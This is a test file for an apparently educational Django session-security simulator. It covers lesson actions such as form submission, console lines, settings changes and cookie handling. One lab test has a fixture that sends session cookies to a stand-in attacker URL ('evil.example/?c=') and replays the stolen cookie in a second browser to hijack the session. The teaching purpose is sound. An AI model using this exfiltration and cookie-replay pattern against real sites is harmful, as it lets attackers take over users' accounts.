// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { perform, performAll } from '../../src/lessons/actions';
import { evaluate, markStep } from '../../src/lessons/checks';
import type { Action } from '../../src/lessons/types';
import type { World } from '../../src/world/world';
import { START, testWorld } from './helpers';

const openForm: Action = { type: 'navigate', path: '/myapp/connection/' };
const usernames = (w: World) => w.server.storedSessions().map((r) => r.data.get('username'));

describe('perform', () => {
  it('navigate: in browser A unless told, bringing that browser to the front', async () => {
    const { world } = testWorld();
    expect(await perform(openForm, world, 'en')).toEqual({});
    expect(world.tab('A').current?.request.path).toBe('/myapp/connection/');
    world.addTab();
    await perform({ type: 'navigate', browser: 'A', path: '/myapp/logout/' }, world, 'en');
    expect(world.activeTabId).toBe('A');
    await expect(perform({ ...openForm, browser: 'C' }, world, 'en')).rejects.toThrow(
      'There is no browser C.',
    );
  });

  it('submit: fills the form of the current page, in the lesson language', async () => {
    const { world } = testWorld();
    const submit: Action = {
      type: 'submit',
      values: { username: { en: 'alice', bn: 'রহিম' }, password: 'x' },
    };
    await perform(openForm, world, 'bn');
    await perform(submit, world, 'bn');
    expect(world.network.at(-1)?.requestBody).toBe(
      `username=${encodeURIComponent('রহিম')}&password=x`,
    );
    expect(usernames(world)).toEqual(['রহিম']);
  });

  it('submit: a page without that form, or a field the form lacks, is a clear error', async () => {
    const { world } = testWorld();
    const submit: Action = { type: 'submit', values: { username: 'a' } };
    await expect(perform(submit, world, 'en')).rejects.toThrow(
      "Browser A's page (about:blank) has no form to submit.",
    );
    await perform(openForm, world, 'en');
    await expect(perform({ ...submit, form: 1 }, world, 'en')).rejects.toThrow(
      "Browser A's page (/myapp/connection/) has no form number 2.",
    );
    await expect(perform({ ...submit, values: { usernme: 'a' } }, world, 'en')).rejects.toThrow(
      'The form on /myapp/connection/ in browser A has no field "usernme".',
    );
    expect(world.network).toHaveLength(1); // nothing was sent
  });

  it('console: the line in the lesson language, typed in the named browser', async () => {
    const { world } = testWorld();
    world.addTab();
    const code = {
      en: "request.session['name'] = 'alice'",
      bn: "request.session['name'] = 'রহিম'",
    };
    await perform({ type: 'console', browser: 'B', code }, world, 'bn');
    await perform({ type: 'console', code: 'request.session.flush()' }, world, 'en');
    expect(world.tab('B').consoleLog.map((l) => l.input)).toEqual([
      "request.session['name'] = 'রহিম'",
    ]);
    expect(world.tab('A').consoleLog.map((l) => l.input)).toEqual(['request.session.flush()']);
  });

  it('console: runs the line as its own request', async () => {
    const { world } = testWorld();
    await perform(openForm, world, 'en');
    await perform({ type: 'submit', values: { username: 'alice', password: 'x' } }, world, 'en');
    const marker = markStep(world);
    await perform({ type: 'console', code: 'request.session.set_expiry(300)' }, world, 'en');
    expect(evaluate({ type: 'response', consoleMethod: 'set_expiry' }, world, marker, 'en')).toBe(
      true,
    );
    expect(world.activeTab.consoleLog.at(-1)).toMatchObject({
      input: 'request.session.set_expiry(300)',
      output: '',
      error: false,
    });
  });

  it('settings: applied as the settings panel would; refused ones change nothing', async () => {
    const { world } = testWorld();
    await perform({ type: 'settings', patch: { SESSION_COOKIE_AGE: 300 } }, world, 'en');
    expect(world.settings.SESSION_COOKIE_AGE).toBe(300);
    expect(world.server.settings.SESSION_COOKIE_AGE).toBe(300);
    const bad = { type: 'settings', patch: { SESSION_COOKIE_NAME: 'a b' } } as const;
    await expect(perform(bad, world, 'en')).rejects.toThrow(
      'Django would refuse these settings: SESSION_COOKIE_NAME (cookie-name).',
    );
    expect(world.settings.SESSION_COOKIE_NAME).toBe('sessionid');
  });

  it('advance, closeBrowser, clearExpired', async () => {
    const { world } = testWorld();
    await perform(
      { type: 'settings', patch: { SESSION_EXPIRE_AT_BROWSER_CLOSE: true } },
      world,
      'en',
    );
    await perform(openForm, world, 'en');
    await perform({ type: 'submit', values: { username: 'alice', password: 'x' } }, world, 'en');
    await perform({ type: 'closeBrowser' }, world, 'en');
    expect(world.tab('A').browser.jar.all()).toEqual([]);
    expect(world.tab('A').current).toBeUndefined();
    await perform({ type: 'advance', seconds: 1209601 }, world, 'en');
    expect(world.clock.now()).toBe(START + 1209601000);
    expect(world.server.storedSessions()[0]?.expired).toBe(true);
    await perform({ type: 'clearExpired' }, world, 'en');
    expect(world.server.storedSessions()).toEqual([]);
  });

  it('addBrowser (named in the lesson language) and plantCookie', async () => {
    const { world } = testWorld();
    await perform({ type: 'addBrowser', name: { en: 'Bob', bn: 'করিম' } }, world, 'bn');
    expect(world.tabs.map((t) => [t.id, t.name])).toEqual([
      ['A', 'A'],
      ['B', 'করিম'],
    ]);
    await perform(
      { type: 'plantCookie', browser: 'B', name: 'sessionid', value: 'stolen' },
      world,
      'en',
    );
    expect(world.tab('B').browser.jar.all()).toMatchObject([
      {
        name: 'sessionid',
        value: 'stolen',
        domain: 'localhost',
        path: '/',
        expiresAt: null,
        hostOnly: true,
      },
    ]);
    const entry = await world.navigate('B', '/myapp/connection/');
    expect(entry.requestHeaders).toContainEqual(['Cookie', 'sessionid=stolen']);
  });

  it('restartServer: the cache is memory and is lost', async () => {
    const { world } = testWorld();
    await perform({ type: 'settings', patch: { SESSION_ENGINE: 'cache' } }, world, 'en');
    await perform(openForm, world, 'en');
    await perform({ type: 'submit', values: { username: 'alice', password: 'x' } }, world, 'en');
    expect(world.server.storedSessions()).toHaveLength(1);
    await perform({ type: 'restartServer' }, world, 'en');
    expect(world.server.storedSessions()).toEqual([]);
  });

  it('showPanel: returned for the UI, the world untouched', async () => {
    const { world } = testWorld();
    const version = world.version;
    expect(await perform({ type: 'showPanel', panel: 'store' }, world, 'en')).toEqual({
      panel: 'store',
    });
    expect(world.version).toBe(version);
  });
});

describe('replayStolen (lab 15)', () => {
  it('plants the last stolen value that is not empty in the browser, as by hand', async () => {
    const { world } = testWorld();
    world.addTab();
    const stolen = (cookie: string) => ({
      time: START,
      fromTab: 'A',
      url: `http://evil.example/?c=${cookie}`,
      cookie,
    });
    await expect(perform({ type: 'replayStolen', browser: 'B' }, world, 'en')).rejects.toThrow(
      "The attacker's server has received no cookie to replay.",
    );
    world.stolen.push(stolen('sessionid=abc; theme=dark'), stolen(''));
    world.setActiveTab('A');
    expect(await perform({ type: 'replayStolen', browser: 'B' }, world, 'en')).toEqual({});
    expect(world.activeTabId).toBe('B');
    expect(world.tab('B').browser.jar.all()).toMatchObject([
      { name: 'sessionid', value: 'abc', domain: 'localhost', path: '/', httpOnly: false },
      { name: 'theme', value: 'dark', expiresAt: null, hostOnly: true },
    ]);
    expect(world.tab('A').browser.jar.all()).toEqual([]);
  });
});

describe('performAll', () => {
  it('runs the actions in order, each finished before the next, and collects effects', async () => {
    const { world } = testWorld();
    const effects = await performAll(
      [
        openForm,
        { type: 'submit', values: { username: 'alice', password: 'x' } },
        { type: 'showPanel', panel: 'cookies' },
        { type: 'navigate', path: '/myapp/logout/' },
      ],
      world,
      'en',
    );
    expect(effects).toEqual([{}, {}, { panel: 'cookies' }, {}]);
    expect(world.network.map((e) => `${e.method} ${e.path}`)).toEqual([
      'GET /myapp/connection/',
      'POST /myapp/login/',
      'GET /myapp/logout/',
    ]);
  });

  it('stops at the first failure', async () => {
    const { world } = testWorld();
    await expect(
      performAll([{ type: 'submit', values: {} }, openForm], world, 'en'),
    ).rejects.toThrow('has no form to submit');
    expect(world.network).toEqual([]);
  });
});
